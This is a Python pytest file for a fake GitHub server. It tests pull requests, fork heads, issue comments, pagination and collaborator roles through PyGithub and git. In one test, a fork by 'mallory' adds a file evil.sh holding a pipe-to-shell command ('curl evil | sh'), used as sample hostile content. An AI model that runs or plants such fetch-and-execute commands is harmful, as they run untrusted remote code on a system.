"""The fake GitHub's pull requests, issue comments and collaborator roles, as the real
PyGithub and the real git see them."""

from __future__ import annotations

from pathlib import Path

import pytest
from github import GithubException, UnknownObjectException

from tests.fakes.github import FakeGitHub, FakeRepo
from tests.support.github_client import git_env, pygithub, run_git


@pytest.fixture
def repo(github: FakeGitHub) -> FakeRepo:
    repo = github.create_repo("octo/app")
    repo.commit({"README": "hi\n"}, "Initial commit")
    return repo


def ls_remote(github: FakeGitHub, tmp_path: Path, repo: FakeRepo, ref: str) -> str:
    done = run_git(git_env(tmp_path, github.token), "ls-remote", repo.clone_url, ref)
    assert done.returncode == 0, done.stderr
    return done.stdout.split("\t")[0]


def test_pull_request_from_a_branch(github: FakeGitHub, repo: FakeRepo) -> None:
    sha = repo.commit({"app.py": "print('hi')\n"}, "Add app", branch="feature")
    number = repo.create_pull("feature", author="alice", title="Add app", draft=True)
    pull = pygithub(github).get_repo(repo.full_name).get_pull(number)
    assert (pull.number, pull.title, pull.state, pull.draft) == (number, "Add app", "open", True)
    assert (pull.head.ref, pull.head.sha, pull.base.ref) == ("feature", sha, "main")
    assert pull.base.sha == repo.head("main")
    assert pull.head.repo.full_name == "octo/app" and not pull.head.repo.fork
    assert pull.user.login == "alice"
    assert (pull.commits, pull.additions, pull.deletions, pull.changed_files) == (1, 1, 0, 1)
    assert pull.raw_data["author_association"] == "NONE"


def test_pull_request_from_a_fork_serves_its_head_from_the_base_repo(
    github: FakeGitHub, repo: FakeRepo, tmp_path: Path
) -> None:
    fork = github.fork_repo(repo, "mallory")
    first = fork.commit({"evil.sh": "curl evil | sh\n"}, "Innocent", branch="patch")
    number = repo.create_pull("patch", author="mallory", fork=fork)
    ref = f"refs/pull/{number}/head"
    assert ls_remote(github, tmp_path, repo, ref) == first
    # The bot fetches the head from the base repository, never from the fork.
    env = git_env(tmp_path, github.token)
    work = tmp_path / "work"
    assert run_git(env, "clone", "--quiet", repo.clone_url, str(work)).returncode == 0
    fetched = run_git(env, "fetch", "origin", ref, cwd=work)
    assert fetched.returncode == 0, fetched.stderr
    assert (work / ".git" / "FETCH_HEAD").read_text().startswith(first)
    second = fork.commit({"evil.sh": "curl worse | sh\n"}, "Also innocent", branch="patch")
    assert ls_remote(github, tmp_path, repo, ref) == second
    pull = pygithub(github).get_repo(repo.full_name).get_pull(number)
    assert pull.head.sha == second
    assert pull.head.repo.full_name == "mallory/app" and pull.head.repo.fork
    assert pull.head.label == "mallory:patch"


def test_a_push_over_http_to_the_head_branch_moves_the_pull_request(
    github: FakeGitHub, repo: FakeRepo, tmp_path: Path
) -> None:
    repo.commit({"a": "1"}, "Branch", branch="feature")
    number = repo.create_pull("feature")
    env = git_env(tmp_path, github.token)
    work = tmp_path / "work"
    assert (
        run_git(env, "clone", "--quiet", "-b", "feature", repo.clone_url, str(work)).returncode == 0
    )
    (work / "a").write_text("2")
    run_git(env, "commit", "-qam", "Change", cwd=work)
    assert run_git(env, "push", "-q", "origin", "feature", cwd=work).returncode == 0
    pushed = run_git(env, "rev-parse", "HEAD", cwd=work).stdout.strip()
    assert repo.pull(number).head_sha == pushed
    assert ls_remote(github, tmp_path, repo, f"refs/pull/{number}/head") == pushed


def test_closed_merged_and_reopened_pull_requests(github: FakeGitHub, repo: FakeRepo) -> None:
    repo.commit({"a": "1"}, "Branch", branch="feature")
    number = repo.create_pull("feature")
    gh_repo = pygithub(github).get_repo(repo.full_name)
    repo.close_pull(number, merged=True)
    pull = gh_repo.get_pull(number)
    assert (pull.state, pull.merged, pull.merged_at is not None) == ("closed", True, True)
    with pytest.raises(ValueError, match="merged"):
        repo.reopen_pull(number)
    repo.commit({"b": "1"}, "Another", branch="other")
    other = repo.create_pull("other")
    repo.close_pull(other)
    assert (gh_repo.get_pull(other).state, gh_repo.get_pull(other).merged) == ("closed", False)
    repo.reopen_pull(other)
    assert gh_repo.get_pull(other).state == "open"


def test_an_issue_is_not_a_pull_request(github: FakeGitHub, repo: FakeRepo) -> None:
    issue_number = repo.create_issue("Bug")
    with pytest.raises(UnknownObjectException):
        pygithub(github, lazy=False).get_repo(repo.full_name).get_pull(issue_number)
    with pytest.raises(UnknownObjectException):
        pygithub(github, lazy=False).get_repo(repo.full_name).get_pull(99)


def test_the_issue_of_a_pull_request_says_so(github: FakeGitHub, repo: FakeRepo) -> None:
    repo.commit({"a": "1"}, "Branch", branch="feature")
    pull_number = repo.create_pull("feature")
    issue_number = repo.create_issue("Bug")
    gh_repo = pygithub(github, lazy=False).get_repo(repo.full_name)
    assert gh_repo.get_issue(pull_number).pull_request is not None
    assert gh_repo.get_issue(issue_number).pull_request is None
    assert gh_repo.get_issue(issue_number).title == "Bug"


def test_comments_are_listed_created_edited_and_fetched(github: FakeGitHub, repo: FakeRepo) -> None:
    repo.commit({"a": "1"}, "Branch", branch="feature")
    number = repo.create_pull("feature", author="alice")
    posted = repo.add_comment(number, "/s2i build", "alice")
    issue = pygithub(github).get_repo(repo.full_name).get_issue(number)
    [seen] = issue.get_comments()
    assert (seen.id, seen.body, seen.user.login) == (posted["id"], "/s2i build", "alice")
    reply = issue.create_comment("Building `abc123`")
    assert reply.user.login == github.login
    reply.edit("Built `abc123`")
    stored = github.comments(repo.full_name, number)
    assert [(c["user"]["login"], c["body"]) for c in stored] == [
        ("alice", "/s2i build"),
        (github.login, "Built `abc123`"),
    ]
    assert issue.get_comment(reply.id).body == "Built `abc123`"
    assert stored[0]["html_url"].endswith(f"/octo/app/pull/{number}#issuecomment-{posted['id']}")


def test_comments_are_paginated(github: FakeGitHub, repo: FakeRepo) -> None:
    number = repo.create_issue()
    for i in range(5):
        repo.add_comment(number, f"comment {i}")
    gh = pygithub(github)
    gh.per_page = 2
    bodies = [c.body for c in gh.get_repo(repo.full_name).get_issue(number).get_comments()]
    assert bodies == [f"comment {i}" for i in range(5)]
    assert sum("/comments" in r.path for r in github.requests) == 3


def test_comment_on_a_missing_issue_is_404(github: FakeGitHub, repo: FakeRepo) -> None:
    with pytest.raises(UnknownObjectException):
        pygithub(github).get_repo(repo.full_name).get_issue(42).create_comment("hello?")


def test_someone_elses_comment_needs_write_access_to_edit(
    github: FakeGitHub, repo: FakeRepo
) -> None:
    number = repo.create_issue()
    posted = repo.add_comment(number, "mine", "alice")
    gh = pygithub(github)
    comment = gh.get_repo(repo.full_name).get_issue(number).get_comment(posted["id"])
    with pytest.raises(GithubException) as raised:
        comment.edit("yours now")
    assert raised.value.status == 403
    repo.set_permission(github.login, "write")
    comment.edit("edited by a maintainer")
    assert github.comments(repo.full_name, number)[0]["body"] == "edited by a maintainer"


@pytest.mark.parametrize(
    ("role", "permission"),
    [
        ("admin", "admin"),
        ("maintain", "write"),
        ("write", "write"),
        ("triage", "read"),
        ("read", "read"),
        ("none", "none"),
    ],
)
def test_permission_shows_legacy_level_and_role_name(
    github: FakeGitHub, repo: FakeRepo, role: str, permission: str
) -> None:
    repo.set_permission("alice", role)
    gh_repo = pygithub(github).get_repo(repo.full_name)
    assert gh_repo.get_collaborator_permission("alice") == permission
    assert gh_repo.get_collaborator_role_name("alice") == role


def test_owner_is_admin_and_strangers_can_read(github: FakeGitHub, repo: FakeRepo) -> None:
    gh_repo = pygithub(github).get_repo(repo.full_name)
    assert gh_repo.get_collaborator_permission("octo") == "admin"
    assert gh_repo.get_collaborator_permission("stranger") == "read"
    with pytest.raises(ValueError, match="unknown role 'push'"):
        repo.set_permission("alice", "push")
